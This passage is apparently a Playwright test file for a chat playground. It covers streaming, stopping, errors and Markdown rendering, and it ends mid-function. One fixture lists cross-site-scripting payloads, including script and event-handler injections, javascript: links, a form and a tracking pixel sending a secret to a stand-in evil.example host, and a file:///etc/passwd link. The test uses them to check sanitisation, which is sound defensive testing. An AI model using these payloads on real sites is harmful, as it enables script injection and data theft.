"""The playground at `/`, used in a real Chromium as a user would."""

import asyncio
import random
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright", reason="needs what `make test-all` installs")
from axe_playwright_python.async_playwright import Axe

from tests.browser import Proxy, Tab, open_tab, require_chromium
from tests.conftest import StartService, StartUpstream, openai_env
from tests.upstream import END, Connection, delta, response

pytestmark = pytest.mark.slow

KEY = "key-of-0123456789abcdefghij"
Browse = Callable[..., Awaitable[Tab]]
SIZES = {"wide": {"width": 1100, "height": 800}, "phone": {"width": 360, "height": 740}}
CLIPBOARD = "navigator.clipboard.readText()"


@pytest.fixture
async def browse(service: StartService, upstream: StartUpstream) -> Any:
    """`await browse(app.url)` opens the playground. It closes before the service stops."""
    require_chromium()
    async with AsyncExitStack() as stack:
        yield lambda url, **context: stack.enter_async_context(open_tab(url, **context))


async def stay_open(connection: Connection) -> None:
    """Start a response and never end it."""
    await connection.stream(delta("So far"))


# ---- Conversations


async def test_conversation_is_shown_and_stored(service: StartService, browse: Browse) -> None:
    app = await service(RATE_LIMIT="off")
    tab = await browse(app.url)
    assert await tab.page.is_visible("text=Try the chat service")
    await tab.send("Hello <b>there</b>")
    assert "simulated, without a model" in await tab.ending()
    assert not await tab.page.is_visible("#about")
    assert (await tab.response_text()).endswith("Hello <b>there</b>")
    assert await tab.page.input_value("#message") == ""
    await tab.send("And again", "mock/lorem-100")
    assert "mock/lorem-100" in await tab.ending(2)
    stored = await (await app.get(f"/api/v1/sessions/{await tab.session_id()}")).json()
    messages = [each["content"] for each in stored["messages"] if each["role"] == "user"]
    assert messages == ["Hello <b>there</b>", "And again"]
    assert await tab.page.locator(".user .text").all_inner_texts() == messages


async def test_text_is_shown_as_it_arrives_and_finished_blocks_stay(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    seen = asyncio.Event()

    async def script(connection: Connection) -> None:
        await connection.stream(delta("First.\n\nSecond"))
        await seen.wait()
        await connection.send_events(delta(" and more."), delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.page.locator(".text p", has_text="Second").wait_for()
    await tab.page.evaluate("document.querySelectorAll('.text p')[0].seen = true")
    # The open paragraph keeps the user's selection.
    select = "getSelection().selectAllChildren(document.querySelector('.assistant .text'))"
    await tab.page.evaluate(select)
    assert await tab.page.get_attribute(".assistant", "aria-busy") == "true"
    seen.set()
    await tab.ending()
    assert await tab.response_text() == "First.\n\nSecond and more."
    assert await tab.page.evaluate("document.querySelector('.assistant .text p').seen") is True
    assert "Second" in await tab.page.evaluate("String(getSelection())")
    assert await tab.page.get_attribute(".assistant", "aria-busy") is None


async def test_ten_thousand_chunks_are_drawn_at_most_once_a_frame(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.page.select_option("#model", "other")
    await tab.page.fill("#other", "mock/lorem-10000")
    await tab.page.evaluate(
        """() => {
            window.draws = window.frames_seen = 0;
            const frame = () => { frames_seen++; requestAnimationFrame(frame); };
            requestAnimationFrame(frame);
            new MutationObserver((all) => {
                draws += all.some((each) => each.target.closest?.(".assistant .text"));
            }).observe(document.querySelector("main"), { childList: true, subtree: true });
        }"""
    )
    await tab.send("Hello")
    assert "mock/lorem-10000" in await tab.ending()
    assert len((await tab.response_text()).split()) == 10_000
    draws, frames = await tab.page.evaluate("[draws, frames_seen]")
    # The end of the response is drawn outside of a frame.
    assert 0 < draws <= frames + 1


async def test_stop_ends_the_provider_request_and_keeps_the_text(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(stay_open)
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    assert not await tab.page.is_visible("#send")
    await tab.page.click("#stop")
    assert await tab.ending() == "Stopped."
    await (await provider.wait_for_request()).closed.wait()
    assert await tab.page.is_visible("#send")
    await tab.reload()
    assert await tab.response_text() == "So far"
    assert await tab.ending() == "Stopped."


async def test_stop_before_the_first_chunk_also_ends_the_provider_request(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    released = asyncio.Event()

    async def script(connection: Connection) -> None:
        await released.wait()
        await stay_open(connection)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url), HEARTBEAT_SECONDS="600")
    tab = await browse(app.url)
    await tab.send("Hello")
    await provider.wait_for_request()
    await tab.page.click("#stop")
    assert await tab.ending() == "Stopped."
    assert await tab.response_text() == ""
    # The session's id comes with the first chunk. Then the playground stops the stream.
    released.set()
    await (await provider.wait_for_request()).closed.wait()


async def test_reload_resumes_the_response(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    more = asyncio.Event()

    async def script(connection: Connection) -> None:
        await connection.stream(delta("So far"))
        await more.wait()
        await connection.send_events(delta(" and more."), delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url)
    # The session of a first response is not stored before the response ends.
    for number in (1, 2):
        more.clear()
        await tab.send("Hello")
        await tab.page.locator(".text p", has_text="So far").nth(number - 1).wait_for()
        await tab.page.reload()
        await tab.page.locator(".text p", has_text="So far").nth(number - 1).wait_for()
        assert await tab.page.is_visible("#stop")
        more.set()
        await tab.page.locator("footer").nth(number - 1).wait_for()
        await tab.page.locator(".redo").first.wait_for()
        assert await tab.response_text() == "So far and more."
        assert await tab.page.locator("article").count() == 2 * number
    assert len(provider.requests) == 2


async def test_reload_shows_the_text_so_far_where_streams_cannot_be_resumed(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(stay_open)
    app = await service(**openai_env(provider.url), RESUME_SECONDS="0")
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    await tab.reload()
    assert await tab.response_text() == "So far"
    assert await tab.ending() == "Interrupted."


async def test_reasoning_is_folded_and_not_stored(service: StartService, browse: Browse) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.send("Hello", "mock/reasoning")
    assert "mock/reasoning" in await tab.ending()
    assert await tab.page.inner_text("summary") == "Reasoning"
    assert not await tab.page.is_visible("details .text")
    await tab.page.click("summary")
    assert len(await tab.page.inner_text("details .text")) > 5
    assert await tab.response_text() == "This is mock/reasoning."
    await tab.reload()
    assert await tab.page.locator("details").count() == 0


async def test_last_turn_can_be_regenerated_and_edited(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    responses = iter(["One", "Two", "Three", "", "Four"])
    provider = await upstream(lambda connection: connection.complete(next(responses)))
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.send("First")
    await tab.ending()
    await tab.send("Second")
    await tab.ending(2)
    await tab.page.click("text=Regenerate")
    await tab.page.locator(".assistant", has_text="Three").locator(".redo").first.wait_for()
    await tab.page.click("text='Edit'")
    assert await tab.page.input_value("#message") == "Second"
    await tab.page.click("text=Cancel")
    assert await tab.page.input_value("#message") == ""
    await tab.page.click("text='Edit'")
    # A response without text replaces nothing.
    await tab.send("Edited in vain")
    assert "The model returned no text" in await tab.ending(3)
    await tab.page.click("text='Edit'")
    await tab.send("Edited")
    await tab.page.locator(".assistant", has_text="Four").locator(".redo").first.wait_for()
    await tab.reload()
    await tab.page.locator(".redo").first.wait_for()
    texts = await tab.page.locator("article .text").all_inner_texts()
    assert texts == ["First", "One", "Edited", "Four"]
    sent = [each.body["messages"][-2:] for each in provider.requests]
    assert [[message["content"] for message in messages] for messages in sent] == [
        ["First"],
        ["One", "Second"],
        ["One", "Second"],
        ["One", "Edited in vain"],
        ["One", "Edited"],
    ]


async def test_user_learns_once_that_older_messages_were_left_out(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    too_long = b'{"error":{"code":"context_length_exceeded","message":"too long"}}'

    async def script(connection: Connection) -> None:
        if len(connection.body["messages"]) > 1:
            await connection.send(response(400, too_long))
        else:
            await connection.complete("Text")

    provider = await upstream(script)
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url)
    for number in (1, 2, 3):
        await tab.send("Hello")
        await tab.ending(number)
    notes = tab.page.locator("text=Older messages no longer fit")
    assert await notes.count() == 1
    assert await tab.page.locator(".assistant").nth(1).locator(notes).count() == 1


async def test_reload_keeps_conversation_model_and_key(
    service: StartService, browse: Browse
) -> None:
    app = await service(API_KEYS=f"web:{KEY}", ALLOW_ANONYMOUS="false")
    tab = await browse(app.url)
    await tab.page.click("text=API key")
    await tab.page.keyboard.type(KEY)
    await tab.page.keyboard.press("Enter")
    assert not await tab.page.is_visible("#key")
    await tab.page.select_option("#model", "other")
    await tab.page.fill("#other", "mock/lorem-3")
    await tab.send("Hello")
    await tab.ending()
    await tab.reload()
    assert await tab.page.locator("article").count() == 2
    assert (await tab.response_text()).strip() == "lorem ipsum dolor"
    assert await tab.page.input_value("#other") == "mock/lorem-3"
    await tab.send("Hello")
    assert "mock/lorem-3" in await tab.ending(2)


@pytest.mark.parametrize("size", SIZES)
async def test_stored_conversations_can_be_opened_and_deleted(
    service: StartService, browse: Browse, size: str
) -> None:
    app = await service(RATE_LIMIT="off")
    tab = await browse(app.url, viewport=SIZES[size])

    async def open_list() -> None:
        if size == "phone":
            await tab.page.click("#list")

    await tab.send("First question")
    await tab.ending()
    first = await tab.session_id()
    await tab.page.click("#new")
    assert await tab.page.locator("article").count() == 0
    await tab.send("Second question")
    await tab.ending()
    assert await tab.session_id() != first
    # A new tab of the same browser has the list, but starts a new conversation.
    other = await tab.page.context.new_page()
    await other.goto(app.url)
    assert await other.locator("#stored li").count() == 2
    assert await other.is_visible("#about")
    await other.close()

    await open_list()
    titles = await tab.page.locator("#stored li button:first-child").all_inner_texts()
    assert titles == ["Second question", "First question"]
    await tab.page.click("#stored >> text=First question")
    await tab.page.locator(".user", has_text="First question").wait_for()
    assert await tab.page.locator("article").count() == 2
    assert await tab.session_id() == first
    current = tab.page.locator("[aria-current=true]")
    assert await current.text_content() == "First question"

    await open_list()
    tab.page.once("dialog", lambda dialog: dialog.dismiss())
    await tab.page.click("[aria-label='Delete “First question”']")
    assert (await app.get(f"/api/v1/sessions/{first}")).status == 200
    tab.page.once("dialog", lambda dialog: dialog.accept())
    await tab.page.click("[aria-label='Delete “First question”']")
    await tab.page.wait_for_selector("#about", state="visible")
    assert (await app.get(f"/api/v1/sessions/{first}")).status == 404
    await open_list()
    assert await tab.page.locator("#stored li").count() == 1


async def test_conversation_left_while_it_loads_does_not_return(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.ending()
    left = asyncio.Event()

    async def delay(route: Any) -> None:
        await left.wait()
        await route.continue_()

    await tab.page.route("**/sessions/*", delay)
    await tab.page.reload()
    await tab.page.click("#new")
    async with tab.page.expect_event("requestfinished"):
        left.set()
    await tab.send("Hello again")
    await tab.ending()
    assert await tab.page.locator(".user .text").all_inner_texts() == ["Hello again"]


async def test_expired_conversation_offers_a_new_one(service: StartService, browse: Browse) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.ending()
    await (await app.connect()).request("DELETE", f"/api/v1/sessions/{await tab.session_id()}")
    await tab.send("Still there?")
    assert "This conversation has expired" in await tab.ending(2)
    await tab.page.click("text=New conversation")
    assert await tab.page.input_value("#message") == "Still there?"
    await tab.page.press("#message", "Enter")
    await tab.ending()
    await (await app.connect()).request("DELETE", f"/api/v1/sessions/{await tab.session_id()}")
    await tab.reload()
    assert await tab.page.is_visible("text=This conversation has expired")
    await tab.send("Hello")
    await tab.ending()


# ---- Errors


@pytest.mark.parametrize(
    ("model", "text", "ending"),
    [
        ("echo", "Hello", "simulated, without a model"),
        ("lorem-100", "lorem ipsum", "mock/lorem-100"),
        ("slow", "This is mock/slow, not a model", "mock/slow"),
        ("hang", "", "The model took too long to respond."),
        ("error", "", "upstream_error"),
        ("error-midstream", "This is mock/error-midstream", "upstream_error"),
        ("truncated", "This is mock/truncated", "The response ended before it was complete."),
        ("rate-limited", "", "Try again in 2 s"),
        ("empty", "", "The model returned no text"),
        ("unicode", "日本語 👩‍👩‍👧 नमस्ते سلام e\u0301 line\u2028separator", "mock/unicode"),
    ],
)
async def test_each_mock_model_has_its_ending(
    service: StartService, browse: Browse, model: str, text: str, ending: str
) -> None:
    # Heartbeats, which show nothing, come between the chunks of mock/slow.
    limits = {"FIRST_TOKEN_TIMEOUT_SECONDS": "2", "HEARTBEAT_SECONDS": "0.1"}
    app = await service(MAX_RETRIES="0", **limits)
    tab = await browse(app.url)
    await tab.send("Hello", f"mock/{model}")
    assert ending in await tab.ending()
    assert text in await tab.response_text()


async def test_retry_replaces_the_failed_attempt(service: StartService, browse: Browse) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.send("Hello", "mock/error")
    assert (await app.log.wait_for_request(-1))["request_id"] in await tab.ending()
    # One sentence, one action.
    assert await tab.page.locator(".problem > p:not(.note)").count() == 1
    assert await tab.page.locator(".problem button").count() == 1
    await tab.page.select_option("#model", "mock/echo")
    await tab.page.click("text=Try again")
    await tab.page.wait_for_selector("article footer")
    assert await tab.page.locator("article").count() == 2
    assert await tab.page.locator(".problem").count() == 0


async def test_next_message_reduces_the_error_to_a_line(
    service: StartService, browse: Browse
) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.send("Hello", "mock/truncated")
    await tab.ending()
    await tab.send("Hello again", "mock/error")
    await tab.ending(2)
    assert await tab.page.locator(".problem").count() == 1
    first = tab.page.locator(".assistant").first.locator("> .note")
    assert await first.inner_text() == "The response ended before it was complete."


async def test_wait_is_counted_down(service: StartService, browse: Browse) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url)
    await tab.send("Hello", "mock/rate-limited")
    assert "Try again in 2 s" in await tab.ending()
    assert await tab.page.is_disabled(".problem > button")
    await tab.page.wait_for_selector("text='Try again in 1 s'")
    await tab.page.wait_for_selector("text='Try again'")
    assert await tab.page.is_enabled(".problem > button")


async def test_rate_limit_shows_how_long_to_wait(service: StartService, browse: Browse) -> None:
    app = await service(RATE_LIMIT="1/hour")
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.ending()
    await tab.send("Again")
    problem = await tab.ending(2)
    assert "rate_limited" in problem
    assert "Try again in 3600 s" in problem or "Try again in 3599 s" in problem
    await tab.page.reload()
    assert "rate_limited" in await tab.page.inner_text(".problem")


async def test_wrong_key_can_be_corrected_where_the_error_is(
    service: StartService, browse: Browse
) -> None:
    app = await service(API_KEYS=f"web:{KEY}", ALLOW_ANONYMOUS="false")
    tab = await browse(app.url, viewport=SIZES["phone"])
    await tab.send("Hello", "mock/echo")
    assert "The service needs a valid API key." in await tab.ending()
    # Nothing covers the sentence, and the cursor is in the field.
    assert await tab.page.evaluate(
        """() => {
            const { x, y } = document.querySelector(".problem p").getBoundingClientRect();
            return document.elementFromPoint(x + 5, y + 5).closest(".problem") !== null;
        }"""
    )
    await tab.page.keyboard.type(KEY)
    await tab.page.keyboard.press("Enter")
    await tab.page.wait_for_selector("article footer")
    assert await tab.page.locator("article").count() == 2
    assert await tab.page.input_value("#key") == KEY


async def test_rejected_message_can_be_edited(service: StartService, browse: Browse) -> None:
    app = await service(MAX_MESSAGE_CHARS="5")
    tab = await browse(app.url)
    await tab.send("Hello there")
    assert "invalid_request" in await tab.ending()
    await tab.page.click("text=Edit the message")
    assert await tab.page.input_value("#message") == "Hello there"
    assert await tab.page.locator("article").count() == 0


async def test_error_that_cannot_be_retried_offers_its_request_id(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda c: c.send(b"HTTP/1.1 401 No\r\ncontent-length: 0\r\n\r\n"))
    app = await service(**openai_env(provider.url), RATE_LIMIT="off")
    tab = await browse(app.url, permissions=["clipboard-read", "clipboard-write"])
    await tab.send("Hello")
    await tab.ending()
    await tab.page.click("text=Copy the request id")
    await tab.page.wait_for_selector("text=Copied")
    assert await tab.page.evaluate(CLIPBOARD) == (await app.log.wait_for_request(-1))["request_id"]


async def test_response_can_be_resumed_after_the_connection_was_lost(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(stay_open)
    app = await service(**openai_env(provider.url))
    proxy = Proxy(app.url)
    tab = await browse(await proxy.listen())
    await tab.send("Hello")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    proxy.cut()
    assert "The connection was lost before the response ended." in await tab.ending()
    assert await tab.response_text() == "So far"
    await tab.page.click("text=Resume")
    await tab.page.locator(".problem", has_text="cannot be reached").wait_for()
    await proxy.listen()
    await tab.page.click("text=Try again")
    await tab.page.locator(".text p", has_text="So far").wait_for()
    await tab.page.click("#stop")
    await tab.page.locator("footer", has_text="Stopped.").wait_for()
    assert len(provider.requests) == 1
    proxy.cut()
    assert [problem for problem in tab.problems if "net::ERR_" not in problem] == []
    tab.problems.clear()


async def test_unreachable_service_is_an_error(service: StartService, browse: Browse) -> None:
    app = await service()
    proxy = Proxy(app.url)
    tab = await browse(await proxy.listen())
    proxy.cut()
    await tab.send("Still there?")
    assert "The service cannot be reached." in await tab.ending()
    assert [problem for problem in tab.problems if "net::ERR_" not in problem] == []
    tab.problems.clear()


# ---- Untrusted text

HOSTILE = """<script>document.title = "run"</script><img src=x onerror="document.title = 'run'">

<iframe src="https://evil.example/"></iframe> <svg onload=alert(1)> &lt;b&gt;

![x](https://evil.example/pixel.png?secret) ![](//evil.example/y.png)

[a](javascript:document.title='run') [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>x</script>)
[d](vbscript:x) [e](/api/v1/models) [f]( javascript:alert(1)) <javascript:alert(1)>
[g](java\tscript:alert(1)) [h](\x01javascript:alert(1)) [i](file:///etc/passwd) [j](blob:https://x/y)

[https://bank.example](https://evil.example/"onmouseover="alert(1)) https://evil.example/"onclick="x

```html" onload="alert(1)
<script>alert(1)</script></code></pre><img src=https://evil.example/z.png>
```

# <img src=https://evil.example/h.png>

- <style>* { display: none }</style>
> <form action="https://evil.example"><input name=a></form>

\u202eesrever\u202c a\U000e0041b

| <img src=x onerror=alert(1)> | [k](javascript:alert(1)) | `</td><script>alert(1)</script>` |
|:-:|--:|---|
| <td onclick=alert(1)> | https://evil.example/"style="x | <br onload=alert(1)> |
"""


async def test_hostile_response_runs_and_loads_nothing(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda c: c.complete(HOSTILE[:40], HOSTILE[40:]))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.ending()
    names = await tab.page.evaluate(
        "[...document.querySelectorAll('.assistant .text *')].map((each) => each.localName)"
    )
    code = {"figure", "figcaption", "button", "pre", "code"}
    table = {"div", "table", "thead", "tbody", "tr", "th", "td"}
    assert set(names) == {"p", "h3", "ul", "li", "blockquote", "a", *code, *table}
    links = await tab.page.evaluate(
        "[...document.querySelectorAll('.assistant a')].map((a) => [a.protocol, a.rel, a.target])"
    )
    assert links == [["https:", "noopener noreferrer", "_blank"]] * 8
    handlers = "//*[@*[starts-with(name(), 'on')]]"
    assert await tab.page.locator(handlers).count() == 0
    text = await tab.response_text()
    assert '<script>document.title = "run"</script>' in text
    assert "esrever ab" in text
    await tab.reload()
    assert await tab.response_text() == text
    assert await tab.page.title() == "chat-sidecar"


async def test_policy_forbids_html_from_strings(service: StartService, browse: Browse) -> None:
    app = await service()
    tab = await browse(app.url)
    for attempt in (
        "document.body.innerHTML = '<p>'",
        "document.body.insertAdjacentHTML('beforeend', '<p>')",
        "document.createElement('script').text = 'x'",
    ):
        with pytest.raises(Exception, match=r"TrustedHTML|TrustedScript"):
            await tab.page.evaluate(attempt)
    # Chromium reports each of them.
    assert len(tab.problems) == 3
    tab.problems.clear()


# ---- Markdown

# `render(text, step)` returns an element. With a step, the text arrives in parts of that length,
# each of which is drawn. `simplify` leaves out what is the same in each link and code block.
DEFINE = """async () => {
    const { MarkdownView } = await import(new URL("markdown.js", location));
    window.render = (text, step) => {
        const root = document.createElement("div"), view = new MarkdownView(root);
        for (let i = 0; i < text.length; i += step || text.length) {
            view.append(text.slice(i, i + (step || text.length)));
            view.draw();
        }
        view.end();
        return root;
    };
    window.simplify = (root) => {
        for (const figure of root.querySelectorAll("figure")) {
            const pre = document.createElement("pre");
            pre.textContent = figure.querySelector("code").textContent;
            figure.replaceWith(pre);
        }
        root.querySelectorAll("a").forEach((a) => a.getAttributeNames().forEach(
            (name) => a.removeAttribute(name)));
        return root.innerHTML;
    };
}"""
MARKDOWN = """# One `two`
Text with **bold *both* bold**, *italic*, _leaning_, snake_case_name, 2 * 3 * 4, \\*plain\\*,
``a `tick` in code`` and [a **link**](https://example.com/a_(b) "title"), https://example.com/c_d.

1. first
2. second

   with a paragraph
   - inner
     - innermost

     ```
     code  in a list
     ```
3. third
lazy

***

- other
* kind

> quoted
> - list

before
| Left | Right <br> `a \\| b` | *Middle* |
|:--|--:|:-:|
| 1 | **2** | 3 |
4

~~~python

if a < b:

    print("```")
~~~
```
open
"""
RENDERED = (
    '<h3 dir="ltr">One <code>two</code></h3>'
    '<p dir="ltr">Text with <strong>bold <em>both</em> bold</strong>, <em>italic</em>, '
    "<em>leaning</em>, snake_case_name, 2 * 3 * 4, *plain*,\n<code>a `tick` in code</code> and "
    "<a>a <strong>link</strong></a>, <a>https://example.com/c_d</a>.</p>"
    '<ol start="1" dir="ltr"><li><p>first</p></li><li><p>second</p><p>with a paragraph</p>'
    "<ul><li><p>inner</p><ul><li><p>innermost</p></li></ul><pre>code  in a list</pre></li></ul>"
    "</li><li><p>third\nlazy</p></li></ol>"
    '<hr><ul dir="ltr"><li><p>other</p></li><li><p>kind</p></li></ul>'
    '<blockquote dir="ltr"><p>quoted</p><ul><li><p>list</p></li></ul></blockquote>'
    '<p dir="ltr">before</p>'
    '<div tabindex="0" role="group" aria-label="Table" class="table" dir="ltr"><table><thead><tr>'
    '<th scope="col" style="text-align: left;">Left</th>'
    '<th scope="col" style="text-align: right;">Right <br> <code>a | b</code></th>'
    '<th scope="col" style="text-align: center;"><em>Middle</em></th></tr></thead><tbody><tr>'
    '<td style="text-align: left;">1</td>'
    '<td style="text-align: right;"><strong>2</strong></td>'
    '<td style="text-align: center;">3</td></tr><tr><td style="text-align: left;">4</td>'
    '<td style="text-align: right;"></td><td style="text-align: center;"></td></tr></tbody>'
    "</table></div>"
    '<pre>\nif a &lt; b:\n\n    print("```")</pre><pre>open</pre>'
)
INLINE = {
    "***both*** and *a **b** c*": (
        "<em><strong>both</strong></em> and <em>a <strong>b</strong> c</em>"
    ),
    "a*b**c**d*e": "a<em>b<strong>c</strong>d</em>e",
    "**open and *closed*": "**open and <em>closed</em>",
    "*crossed **over* here**": "<em>crossed <em><em>over</em> here</em></em>",
    "~~gone~~ but ~/kept": "<del>gone</del> but ~/kept",
    "(_so_) foo_(bar)_": "(<em>so</em>) foo_(bar)_",
    "****four****": "****four****",
    "```a `` ` ``": "```a <code>`</code>",
    "`no **bold** here`": "<code>no **bold** here</code>",
    "[x [y](https://a.example) z](https://b.example)": "[x <a>y</a> z](<a>https://b.example</a>)",
    "[https://a.example](https://b.example)": "<a>https://a.example</a>",
    "![](https://a.example/b.png)": "<a>https://a.example/b.png</a>",
    "[a](<https://a.example> 'title') [b] [c](d)": "<a>a</a> [b] [c](d)",
    "(see https://a.example/b_(c).)": "(see <a>https://a.example/b_(c)</a>.)",
    "[*a](https://b.example)*": "<a>*a</a>*",
}


@pytest.fixture
async def tab(service: StartService, browse: Browse) -> Tab:
    """A tab in which `render` and `simplify` are defined."""
    tab = await browse((await service()).url)
    await tab.page.evaluate(DEFINE)
    return tab


async def render(tab: Tab, texts: list[str], step: int = 0) -> list[str]:
    script = "([texts, step]) => texts.map((text) => simplify(render(text, step)))"
    html: list[str] = await tab.page.evaluate(script, [texts, step])
    return html


async def test_markdown_is_rendered(tab: Tab) -> None:
    assert await render(tab, [MARKDOWN]) == [RENDERED]
    html = dict(zip(INLINE, await render(tab, list(INLINE)), strict=True))
    assert html == {text: f'<p dir="ltr">{expected}</p>' for text, expected in INLINE.items()}


async def test_markdown_is_the_same_in_parts_and_at_once(tab: Tab) -> None:
    parts = "- |1. |> |```|~~~|# |\n|\n\n|    |  |a|b c|*|**|_|`|[|](https://a.example)|\\|-|:-|é"
    choices = [*parts.split("|"), "|", "|-|-|\n", "x" * 40, "word " * 3000]
    chance = random.Random(7)
    texts = ["".join(chance.choices(choices, k=chance.randrange(1, 40))) for _ in range(400)]
    short = [text for text in texts if len(text) < 3000]
    assert await render(tab, [MARKDOWN, *short], 1) == await render(tab, [MARKDOWN, *short])
    # Here the paragraphs reach the limit of their length.
    assert await render(tab, texts, 997) == await render(tab, texts)


# The rows of the table, or why the text is none.
TABLES = {
    "|a|b|\n|-|-|": "a,b",
    "a | b\n- | -": "no table: the second line begins a list",
    "a | b\n:- | -": "a,b",
    "| a |\n|:-:|\n| 1 |": "a/1",
    "| a | b |\n|-|-|\n| 1 |\n| 1 | 2 | 3 |\nx\n\nbehind": "a,b/1,/1,2/x,",
    "| a | b |\n|-|-|\n| 1 | 2 |\n> behind": "a,b/1,2",
    "| a \\| b | `c \\| d` |\n|-|-|\n| \\\\| | e \\": "a | b,c | d/|,e \\",
    "| | b |\n|-|-|\n|||": ",b/,",
    "> | a | b |\n> |-|-|\n> | 1 | 2 |": "a,b/1,2",
    "- c\n  | a | b |\n  |-|-|\n  | 1 | 2 |": "a,b/1,2",
    "a | b": "no table: no second line",
    "a | b\nc | d": "no table: no hyphens",
    "| a | b |\n|-|": "no table: two columns, then one",
    "| a | b |\n\n|-|-|": "no table: a blank line between them",
    "| a | b |\n|-|- x|": "no table: letters",
    "a\n-": "no table: no bar",
    "a\n---": "no table: a rule",
    # Each short row has 999 empty cells; there is a limit.
    f"{'a|' * 1000}\n{'-|' * 1000}\nx\nx\nlast": f"{'a,' * 999}a/x{',' * 999}/x{',' * 999}",
}


async def test_table_is_what_github_renders_as_one(tab: Tab) -> None:
    for markdown, expected in TABLES.items():
        rows = await tab.page.evaluate(
            """(text) => [...render(text).querySelectorAll("tr")].map((row) =>
                [...row.cells].map((cell) => cell.textContent).join()).join("/")""",
            markdown,
        )
        assert rows == ("" if expected.startswith("no table") else expected), markdown


# Texts that start a construct again and again, that never end one, or that end what never started.
HOSTILE_PARTS = {
    "links": ["[a](", "[", "](", "![a](b", "[a](<", "[a](b(c)", "(", "]", "[a](https://a.example"],
    "emphasis": ["*", "**", "*a ", "a*", "**a ", "_a ", "*a_b ", "***a", "~~a "],
    "code": ["`", "``", "`a``", "` `` ", "```\n", "~~~", "\\", "\\`", "<br "],
    "URLs": ["http://", "https://a.", "https://a(", "https://a)", "https://....", "x", "é👩"],
    "lists": ["- ", "- a\n", "1. a\n", "- - a\n", "  - a\n\n", "1", "- 1\n"],
    "blocks": ["\n", " ", "\t", "> ", "> a\n", "# ", "# a\n", "-", "=", "a\n\n", "سلام\n\n"],
    "tables": ["|", "|-", "a|", "a|b\n-|-\n", "a|b\n", "\n|a|\n|-|\n"],
}
# The time to render a text of `size` characters that arrives in four parts.
MEASURE = """([start, part, size]) => {
    const text = start + part.repeat(Math.ceil(size / part.length)).slice(0, size);
    const began = performance.now();
    render(text, Math.ceil(text.length / 4));
    return performance.now() - began;
}"""


@pytest.mark.parametrize("parts", HOSTILE_PARTS.values(), ids=HOSTILE_PARTS)
async def test_rendering_time_grows_linearly(tab: Tab, parts: list[str]) -> None:
    """Eight times the text takes about eight times as long. If it were quadratic: 64 times."""
    # In paragraphs, whose length is limited, and in a table cell, whose length is not.
    for start in ("", "a|b\n-|-\n"):
        for part in parts:
            small = min([await tab.page.evaluate(MEASURE, [start, part, 16_000]) for _ in range(3)])
            # The machine may be busy with something else: the best of some attempts counts.
            for _ in range(5):
                large = await tab.page.evaluate(MEASURE, [start, part, 128_000])
                # Below 3 ms the clock decides.
                growth = large / max(small, 3)
                if growth < 32:
                    break
            assert growth < 32, part


WIDE = "| One | Two | Three |\n|---|---|---|\n" + f"| {'x' * 40} | {'y' * 40} | {'z' * 40} |\n"


async def test_wide_table_keeps_its_scroll_position_while_it_arrives(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    steps = asyncio.Queue[str]()

    async def script(connection: Connection) -> None:
        await connection.stream(delta(await steps.get()))
        for _ in range(2):
            await connection.send_events(delta(await steps.get()))
        await connection.send_events(delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url, viewport=SIZES["phone"])
    await tab.send("Hello")
    steps.put_nowait(WIDE[:22])
    # Without a second line it could still be text.
    await tab.page.locator(".text p", has_text="Three").wait_for()
    steps.put_nowait(WIDE[22:])
    await tab.page.wait_for_selector("td")
    await tab.page.evaluate("document.querySelector('td').seen = true")
    await tab.page.focus(".table")
    await tab.page.keyboard.press("ArrowRight")
    await tab.until("document.querySelector('.table').scrollLeft > 20")
    steps.put_nowait("| further |")
    await tab.ending()
    assert await tab.page.evaluate(
        """document.querySelector("td").seen && document.activeElement.matches(".table")
            && document.activeElement.scrollLeft > 20
            && document.querySelectorAll("tbody tr").length === 2
            && document.documentElement.scrollWidth <= innerWidth"""
    )


async def test_code_can_be_selected_and_copied_while_it_arrives(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    more = asyncio.Event()

    async def script(connection: Connection) -> None:
